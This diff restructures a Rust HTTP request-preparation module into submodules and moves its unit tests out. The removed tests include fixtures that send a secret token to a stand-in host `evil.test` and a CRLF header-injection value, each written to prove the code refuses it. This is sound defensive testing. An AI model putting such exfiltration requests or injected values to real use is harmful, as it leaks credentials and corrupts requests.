@@ -5,9 +5,16 @@
 //! that reached it, the run's masks, the clock): it sends nothing and changes nothing,
 //! so it is tested without a server. Its errors ([`RequestError`]) carry the block, the
 //! field and the kind; their text is composed once, by [`RequestError::message`].
+//!
+//! Modules: `error` ([`RequestError`]), `body` (a rendered body and the bounded writer
+//! it is made with), `custody` (the secrets a request carries, and their hosts).
+//! Rendering the templates, auth and body is here.
+
+mod body;
+mod custody;
+mod error;
 
 use std::borrow::Cow;
-use std::fmt;
 use std::path::Path;
 
 use base64::Engine as _;
@@ -20,54 +27,14 @@ use switchyard_flow::{ApiKeyLocation, Auth, Body, Part, SendRequest};
 use switchyard_vault::{Variable, Variables};
 use url::Url;
 
+use body::{Limited, default_content_type};
+pub(crate) use body::{PreparedBody, PreparedPart};
+use custody::secret_shape_problem;
+pub(crate) use custody::{carried_secrets, check_hosts};
+pub(crate) use error::RequestError;
+
 use crate::redact::Redactor;
 use crate::value::ErrorKind;
-
-/// Why a request failed: the block, the field (when one is to blame), the kind, and
-/// what went wrong there.
-#[derive(Debug, Clone, PartialEq, Eq)]
-pub(crate) struct RequestError {
-    pub block: String,
-    /// `url`, `headers[2]`, `auth.token`, `body.multipart[0]`; `None` for the exchange.
-    pub field: Option<String>,
-    pub kind: ErrorKind,
-    /// What went wrong, without the block or the field.
-    pub detail: String,
-    /// A few words for the block's result on the canvas; the kind's by default.
-    pub summary: String,
-}
-
-impl RequestError {
-    pub fn new(block: &str, field: Option<&str>, kind: ErrorKind, detail: impl Into<String>) -> Self {
-        Self {
-            block: block.to_owned(),
-            field: field.map(str::to_owned),
-            kind,
-            detail: detail.into(),
-            summary: kind.short().to_owned(),
-        }
-    }
-
-    fn summary(mut self, summary: String) -> Self {
-        self.summary = summary;
-        self
-    }
-
-    /// `block `login`: headers[1]: …`: the one place the text is put together.
-    pub fn message(&self) -> String {
-        self.to_string()
-    }
-}
-
-impl fmt::Display for RequestError {
-    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
-        write!(f, "block `{}`: ", self.block)?;
-        if let Some(field) = &self.field {
-            write!(f, "{field}: ")?;
-        }
-        f.write_str(&self.detail)
-    }
-}
 
 /// Everything a request is prepared from.
 pub(crate) struct Inputs<'a, 'r> {
@@ -99,54 +66,6 @@ pub(crate) struct Prepared<'a> {
     /// Derived credentials to mask from now on, each as a form of the named secret
     /// (the base64 of a Basic `user:password`).
     pub masks: Vec<(String, String)>,
-}
-
-/// A rendered body. A multipart body is kept as its parts, so that a redirect that
-/// keeps the body (307, 308) can build the form again.
-#[derive(Debug, Clone, PartialEq, Eq)]
-pub(crate) enum PreparedBody {
-    Bytes(Vec<u8>),
-    Multipart(Vec<(String, PreparedPart)>),
-}
-
-#[derive(Debug, Clone, PartialEq, Eq)]
-pub(crate) enum PreparedPart {
-    Text(String),
-    File { file_name: String, bytes: Vec<u8> },
-}
-
-impl PreparedBody {
-    /// Every byte run that will leave with the body: each part's name, text and file.
-    pub fn runs(&self) -> Vec<&[u8]> {
-        match self {
-            PreparedBody::Bytes(bytes) => vec![bytes.as_slice()],
-            PreparedBody::Multipart(parts) => parts
-                .iter()
-                .flat_map(|(name, part)| match part {
-                    PreparedPart::Text(text) => [name.as_bytes(), text.as_bytes(), &[]],
-                    PreparedPart::File { file_name, bytes } => {
-                        [name.as_bytes(), bytes.as_slice(), file_name.as_bytes()]
-                    }
-                })
-                .collect(),
-        }
-    }
-
-    pub fn attach(&self, builder: reqwest::RequestBuilder) -> reqwest::RequestBuilder {
-        match self {
-            PreparedBody::Bytes(bytes) => builder.body(bytes.clone()),
-            PreparedBody::Multipart(parts) => {
-                let form = parts.iter().fold(reqwest::multipart::Form::new(), |form, (name, part)| match part {
-                    PreparedPart::Text(text) => form.text(name.clone(), text.clone()),
-                    PreparedPart::File { file_name, bytes } => form.part(
-                        name.clone(),
-                        reqwest::multipart::Part::bytes(bytes.clone()).file_name(file_name.clone()),
-                    ),
-                });
-                builder.multipart(form)
-            }
-        }
-    }
 }
 
 /// Resolves every template and builds the request; finds the secrets it carries and
@@ -511,312 +430,5 @@ impl<'a> Preparing<'_, 'a, '_> {
     }
 }
 
-/// Adds to `secrets` every secret any form of which is in what is about to be sent
-/// (URL, header names and values, body), wherever it came from: a template, or a
-/// value an earlier response echoed (`{{input.…}}`).
-pub(crate) fn carried_secrets<'v>(
-    redactor: &Redactor,
-    variables: &'v Variables,
-    secrets: &mut Vec<&'v Variable>,
-    url: &Url,
-    headers: &HeaderMap,
-    body: Option<&PreparedBody>,
-) {
-    if redactor.is_empty() {
-        return;
-    }
-    let mut names = redactor.secrets_in(url.as_str().as_bytes());
-    for (name, value) in headers {
-        names.extend(redactor.secrets_in(name.as_str().as_bytes()));
-        names.extend(redactor.secrets_in(value.as_bytes()));
-    }
-    for run in body.map(PreparedBody::runs).unwrap_or_default() {
-        names.extend(redactor.secrets_in(run));
-    }
-    for name in names {
-        if let Some(variable) = variables.get(&name)
-            && !secrets.iter().any(|s| s.name == variable.name)
-        {
-            secrets.push(variable);
-        }
-    }
-}
-
-/// Refuses to send a secret to a host outside its `allowed_hosts`.
-pub(crate) fn check_hosts(block: &str, secrets: &[&Variable], url: &Url) -> Result<(), RequestError> {
-    let host = url.host_str().unwrap_or_default();
-    let host = host.trim_start_matches('[').trim_end_matches(']');
-    for secret in secrets {
-        if !secret.host_allowed(host) {
-            return Err(RequestError::new(
-                block,
-                None,
-                ErrorKind::HostNotAllowed,
-                format!(
-                    "this request carries secret `{{{{{}}}}}` (in a template or in a value echoed by a server), \
-                     which may only be sent to {}, not to {host}; nothing was sent",
-                    secret.name,
-                    secret.allowed_hosts.join(", ")
-                ),
-            ));
-        }
-    }
-    Ok(())
-}
-
-/// What is wrong with a secret's value for sending, if anything: a trailing newline
-/// (the usual mistake with a token file or a CI variable), another control character,
-/// or white space at either end, each of which the URL parser or the HTTP client
-/// would drop or refuse, so that what is sent would no longer match what is masked.
-fn secret_shape_problem(value: &str) -> Option<&'static str> {
-    if value.ends_with(['\n', '\r']) {
-        Some("ends with a newline")
-    } else if value.chars().any(char::is_control) {
-        Some("contains a control character")
-    } else if value.starts_with(char::is_whitespace) || value.ends_with(char::is_whitespace) {
-        Some("starts or ends with white space")
-    } else {
-        None
-    }
-}
-
-/// A writer that keeps at most `room` bytes and refuses more.
-struct Limited {
-    bytes: Vec<u8>,
-    room: usize,
-}
-
-impl std::io::Write for Limited {
-    fn write(&mut self, buf: &[u8]) -> std::io::Result<usize> {
-        if buf.len() > self.room.saturating_sub(self.bytes.len()) {
-            return Err(std::io::Error::other("over the request size limit"));
-        }
-        self.bytes.extend_from_slice(buf);
-        Ok(buf.len())
-    }
-
-    fn flush(&mut self) -> std::io::Result<()> {
-        Ok(())
-    }
-}
-
-fn default_content_type(headers: &mut HeaderMap, content_type: &'static str) {
-    if !headers.contains_key(CONTENT_TYPE) {
-        headers.insert(CONTENT_TYPE, HeaderValue::from_static(content_type));
-    }
-}
-
 #[cfg(test)]
-mod tests {
-    use super::*;
-    use switchyard_flow::{Block, BlockKind, Flow};
-
-    fn request(json: &str) -> SendRequest {
-        let text = format!(
-            r#"{{"switchyard":1,"name":"t","blocks":{{"start":{{"type":"start"}},"req":{{"type":"send_request",{json}}}}},"wires":[["start.out","req.in"]]}}"#
-        );
-        let flow = Flow::from_json(&text, "t.json").expect("test flow");
-        let block: &Block = flow.blocks.iter().find(|b| b.id == "req").expect("req block");
-        match &block.kind {
-            BlockKind::SendRequest(request) => request.clone(),
-            _ => unreachable!("req is a send_request"),
-        }
-    }
-
-    fn variables(list: &[Variable]) -> Variables {
-        let mut variables = Variables::new();
-        for variable in list {
-            variables.insert(variable.clone());
-        }
-        variables
-    }
-
-    fn prepared<'a>(
-        request: &'a SendRequest,
-        variables: &'a Variables,
-        redactor: &Redactor,
-        input: &'a Value,
-    ) -> Result<Prepared<'a>, RequestError> {
-        let inputs = Inputs {
-            block: "req",
-            request,
-            variables,
-            input,
-            redactor,
-            base_dir: None,
-            now_ms: 1_700_000_000_000,
-            random: || 4,
-            max_request_bytes: switchyard_flow::DEFAULT_MAX_REQUEST_BYTES,
-        };
-        prepare(&inputs, &mut String::new())
-    }
-
-    #[test]
-    fn a_request_past_its_limit_is_refused_while_it_is_rendered() {
-        let variables = variables(&[Variable::plain("big", "x".repeat(600))]);
-        let redactor = Redactor::default();
-        for (json, field) in [
-            (r#""method":"POST","url":"http://h.test/","body":{"text":"{{big}}{{big}}"}"#, "body.text"),
-            (r#""method":"POST","url":"http://h.test/","body":{"json":{"a":"{{big}}","b":"{{big}}"}}"#, "body.json.b"),
-            (
-                r#""method":"POST","url":"http://h.test/","body":{"form":[["a","{{big}}"],["b","{{big}}"]]}"#,
-                "body.form[1]",
-            ),
-            (r#""url":"http://h.test/","headers":[["A","{{big}}"],["B","{{big}}"]]"#, "headers[1]"),
-            (r#""url":"http://h.test/{{big}}","query":[["q","{{big}}"]]"#, "query[0]"),
-        ] {
-            let request = request(json);
-            let inputs = Inputs {
-                block: "req",
-                request: &request,
-                variables: &variables,
-                input: &Value::Null,
-                redactor: &redactor,
-                base_dir: None,
-                now_ms: 0,
-                random: || 4,
-                max_request_bytes: 1000,
-            };
-            let error = prepare(&inputs, &mut String::new()).expect_err(field);
-            assert_eq!(error.kind, ErrorKind::RequestTooLarge, "{field}: {error}");
-            assert_eq!(error.field.as_deref(), Some(field), "{error}");
-            assert!(error.message().contains("1000 bytes"), "{error}");
-            // Within the limit the same request is built.
-            let inputs = Inputs { max_request_bytes: 1300, ..inputs };
-            assert!(prepare(&inputs, &mut String::new()).is_ok(), "{field}");
-        }
-    }
-
-    fn header<'h>(prepared: &'h Prepared<'_>, name: &str) -> &'h str {
-        prepared.headers.get(name).and_then(|v| v.to_str().ok()).unwrap_or_default()
-    }
-
-    #[test]
-    fn templates_reach_url_query_headers_and_json_body() {
-        let request = request(
-            r#""method":"POST","url":"http://h.test/{{id}}","query":[["q","{{input.body.n}}"]],
-            "headers":[["X-Id","{{id}}"]],"body":{"json":{"id":"{{id}}","n":1}}"#,
-        );
-        let variables = variables(&[Variable::plain("id", "42")]);
-        let input = serde_json::json!({"body": {"n": 7}});
-        let redactor = Redactor::default();
-        let prepared = prepared(&request, &variables, &redactor, &input).expect("prepared");
-        assert_eq!(prepared.method, Method::POST);
-        assert_eq!(prepared.url.as_str(), "http://h.test/42?q=7");
-        assert_eq!(header(&prepared, "x-id"), "42");
-        assert_eq!(header(&prepared, "content-type"), "application/json");
-        assert_eq!(prepared.body, Some(PreparedBody::Bytes(br#"{"id":"42","n":1}"#.to_vec())));
-        assert!(prepared.secrets.is_empty());
-    }
-
-    #[test]
-    fn an_undefined_name_names_block_field_and_kind() {
-        let request = request(r#""method":"GET","url":"http://h.test/","headers":[["A","x"],["B","{{nope}}"]]"#);
-        let (variables, redactor) = (Variables::new(), Redactor::default());
-        let error = prepared(&request, &variables, &redactor, &Value::Null).expect_err("unresolved");
-        assert_eq!(error.block, "req");
-        assert_eq!(error.field.as_deref(), Some("headers[1]"));
-        assert_eq!(error.kind, ErrorKind::UnresolvedVariable);
-        assert_eq!(error.summary, "unresolved {{nope}}");
-        assert!(error.message().starts_with("block `req`: headers[1]: uses `{{nope}}`, which is not defined"));
-    }
-
-    #[test]
-    fn a_line_break_in_a_header_value_is_refused_in_its_field() {
-        let request = request(r#""method":"GET","url":"http://h.test/","headers":[["X","{{v}}"]]"#);
-        let variables = variables(&[Variable::plain("v", "a\r\nInjected: 1")]);
-        let redactor = Redactor::default();
-        let error = prepared(&request, &variables, &redactor, &Value::Null).expect_err("refused");
-        assert_eq!((error.field.as_deref(), error.kind), (Some("headers[0]"), ErrorKind::InvalidRequest));
-    }
-
-    #[test]
-    fn bad_urls_and_methods_are_their_fields_errors() {
-        let (variables, redactor) = (Variables::new(), Redactor::default());
-        for (json, field, kind) in [
-            (r#""method":"GET","url":"not a url""#, "url", ErrorKind::InvalidUrl),
-            (r#""method":"GET","url":"ftp://h.test/""#, "url", ErrorKind::InvalidUrl),
-        ] {
-            let request = request(json);
-            let error = prepared(&request, &variables, &redactor, &Value::Null).expect_err(json);
-            assert_eq!((error.field.as_deref(), error.kind), (Some(field), kind), "{json}");
-        }
-    }
-
-    #[test]
-    fn a_secret_bound_to_other_hosts_is_refused_and_never_in_the_message() {
-        let request = request(r#""method":"GET","url":"http://evil.test/","auth":{"type":"bearer","token":"{{key}}"}"#);
-        let mut key = Variable::secret("key", "sk-prepare-7Qz");
-        key.allowed_hosts = vec!["api.test".to_owned()];
-        let variables = variables(&[key]);
-        let redactor = Redactor::for_variables(&variables);
-        let error = prepared(&request, &variables, &redactor, &Value::Null).expect_err("host");
-        assert_eq!(error.kind, ErrorKind::HostNotAllowed);
-        assert!(error.message().contains("`{{key}}`") && !error.message().contains("sk-prepare"));
-    }
-
-    #[test]
-    fn a_secret_echoed_into_the_input_is_carried_and_bound() {
-        let request = request(r#""method":"GET","url":"http://evil.test/?t={{input.body.t}}""#);
-        let mut key = Variable::secret("key", "sk-echoed-9Xw");
-        key.allowed_hosts = vec!["api.test".to_owned()];
-        let variables = variables(&[key]);
-        let redactor = Redactor::for_variables(&variables);
-        let input = serde_json::json!({"body": {"t": "sk-echoed-9Xw"}});
-        let error = prepared(&request, &variables, &redactor, &input).expect_err("carried");
-        assert_eq!(error.kind, ErrorKind::HostNotAllowed);
-    }
-
-    fn prepared_too<'a>(request: &'a SendRequest, variables: &'a Variables, redactor: &Redactor) -> Prepared<'a> {
-        prepared(request, variables, redactor, &Value::Null).expect("prepared")
-    }
-
-    #[test]
-    fn basic_auth_with_a_secret_masks_its_base64() {
-        let request = request(
-            r#""method":"GET","url":"http://api.test/","auth":{"type":"basic","username":"me","password":"{{pw}}"}"#,
-        );
-        let variables = variables(&[Variable::secret("pw", "hunter-22")]);
-        let redactor = Redactor::for_variables(&variables);
-        let prepared = prepared(&request, &variables, &redactor, &Value::Null).expect("prepared");
-        // Also when the secret was already carried by an earlier field.
-        let mut request_too = request.clone();
-        request_too.headers.push(("X-Pw".to_owned(), "{{pw}}".to_owned()));
-        let prepared_too = prepared_too(&request_too, &variables, &redactor);
-        assert_eq!(prepared_too.masks.len(), 1);
-        let credential = STANDARD.encode("me:hunter-22");
-        assert_eq!(header(&prepared, "authorization"), format!("Basic {credential}"));
-        assert_eq!(prepared.masks, vec![("pw".to_owned(), credential)]);
-        assert_eq!(prepared.secrets.iter().map(|s| s.name.as_str()).collect::<Vec<_>>(), ["pw"]);
-    }
-
-    #[test]
-    fn a_missing_multipart_file_names_its_part() {
-        let request = request(
-            r#""method":"POST","url":"http://h.test/","body":{"multipart":[["a","x"],["f",{"file":"/no/such/file"}]]}"#,
-        );
-        let (variables, redactor) = (Variables::new(), Redactor::default());
-        let error = prepared(&request, &variables, &redactor, &Value::Null).expect_err("file");
-        assert_eq!((error.field.as_deref(), error.kind), (Some("body.multipart[1]"), ErrorKind::InvalidRequest));
-        assert!(error.detail.contains("/no/such/file"));
-    }
-
-    #[test]
-    fn a_secret_with_a_trailing_newline_is_refused_by_name() {
-        let request = request(r#""method":"GET","url":"http://h.test/","auth":{"type":"bearer","token":"{{t}}"}"#);
-        let variables = variables(&[Variable::secret("t", "tok-123\n")]);
-        let redactor = Redactor::for_variables(&variables);
-        let error = prepared(&request, &variables, &redactor, &Value::Null).expect_err("shape");
-        assert_eq!((error.field.as_deref(), error.kind), (Some("auth.token"), ErrorKind::InvalidRequest));
-        assert_eq!(error.summary, "secret {{t}} ends with a newline");
-        assert!(!error.message().contains("tok-123"));
-    }
-
-    #[test]
-    fn dynamic_values_come_from_the_inputs_clock() {
-        let request = request(r#""method":"GET","url":"http://h.test/{{$timestamp}}""#);
-        let (variables, redactor) = (Variables::new(), Redactor::default());
-        let prepared = prepared(&request, &variables, &redactor, &Value::Null).expect("prepared");
-        assert_eq!(prepared.url.as_str(), "http://h.test/1700000000");
-    }
-}
+mod tests;
